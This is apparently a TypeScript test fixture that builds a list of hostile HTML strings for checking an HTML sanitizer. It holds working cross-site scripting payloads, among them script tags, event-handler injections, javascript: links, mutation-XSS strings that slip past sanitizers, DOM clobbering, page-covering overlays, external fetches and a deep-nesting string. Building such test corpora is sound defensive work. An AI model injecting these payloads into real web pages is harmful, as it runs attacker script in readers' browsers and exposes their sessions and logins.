/** Sets a mark in the page if it runs. */
const RUN = "window.ran=1";

/**
 * What sites may put into their texts to run something in the reader's page, to fetch something or to take the page over; each begins as a
 * formatted text. The last ones change when they are written down and read again, which defeats sanitizers that hand over text.
 */
export function hostileTexts(elsewhere: string): string[] {
  const bodies = [
    `<script>${RUN}</script>`,
    `<scr<script>ipt>${RUN}</script>`,
    `<script src="${elsewhere}/a.js"></script>`,
    `<img src=x onerror="${RUN}">`,
    `<img src="${elsewhere}/seen.png" srcset="${elsewhere}/set.png 2x" alt="seen">`,
    `<img/src="x"/onerror=${RUN}//`,
    `<a href="javascript:${RUN}">link</a>`,
    `<a href="jAvAsCrIpT&colon;${RUN}">link</a>`,
    `<a href=" &#1;java\nscript:${RUN}">link</a>`,
    `<a href="data:text/html,<script>${RUN}</script>">link</a>`,
    `<a href="vbscript:${RUN}" onclick="${RUN}" ping="${elsewhere}/ping">link</a>`,
    `<b style="background:url(${elsewhere}/style.png)" onmouseover="${RUN}">styled</b>`,
    `<style>@import "${elsewhere}/import.css"; body { background: url(${elsewhere}/body.png); display: none }</style>`,
    `<link rel="stylesheet" href="${elsewhere}/link.css"><link rel="prefetch" href="${elsewhere}/prefetch">`,
    `<svg onload="${RUN}"><script>${RUN}</script><image href="${elsewhere}/svg.png"/><use href="${elsewhere}/use.svg#a"/></svg>`,
    `<svg><a><animate attributeName="href" values="javascript:${RUN}"/><text>svg</text></a></svg>`,
    `<math><maction actiontype="statusline" xlink:href="javascript:${RUN}">math</maction></math>`,
    `<base href="${elsewhere}/"><a href="relative">based</a>`,
    `<meta http-equiv="refresh" content="0;url=${elsewhere}/refresh">`,
    `<form action="${elsewhere}/form"><input name="password" autofocus onfocus="${RUN}"><button formaction="javascript:${RUN}">Sign in</button></form>`,
    `<iframe src="${elsewhere}/frame" srcdoc="<script>parent.ran=1</script>"></iframe><frameset><frame src="${elsewhere}/f"></frameset>`,
    `<object data="${elsewhere}/object"></object><embed src="${elsewhere}/embed"><applet code="a"></applet>`,
    `<video autoplay src="${elsewhere}/video" poster="${elsewhere}/poster.png" onerror="${RUN}"><source onerror="${RUN}" src="x"></video><audio src="${elsewhere}/a" onerror="${RUN}">`,
    `<details open ontoggle="${RUN}"><summary>more</summary>text</details>`,
    `<table background="${elsewhere}/table.png"><tr><td background="${elsewhere}/cell.png">cell</table>`,
    `<div id="__next" class="mantine-Drawer-root" name="body" style="position:fixed;inset:0;z-index:9999">over everything</div>`,
    `<img name="getElementById"><a id="location" href="${elsewhere}">clobber</a><form id="document"></form>`,
    `<template><img src=x onerror="${RUN}"></template><div><template shadowrootmode="open"><script>${RUN}</script></template></div>`,
    `<picture><source srcset="${elsewhere}/picture.webp"><img alt="picture" src="${elsewhere}/picture.png"></picture>`,
    `<body onload="${RUN}"><marquee onstart="${RUN}">round</marquee><custom-element is="x" onclick="${RUN}">own</custom-element>`,
    `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
    `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">`,
    `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
    `<svg><foreignObject><p><style><!--</style><a title="--><img src=x onerror=${RUN}>">mutated</a></p></foreignObject></svg>`,
    `<xmp><p title="</xmp><img src=x onerror=${RUN}>"></xmp><plaintext><img src=x onerror=${RUN}>`,
    `${"<b><blockquote>".repeat(400)}deep`,
  ];
  return bodies.map((body) => `<p>before</p>${body}`);
}
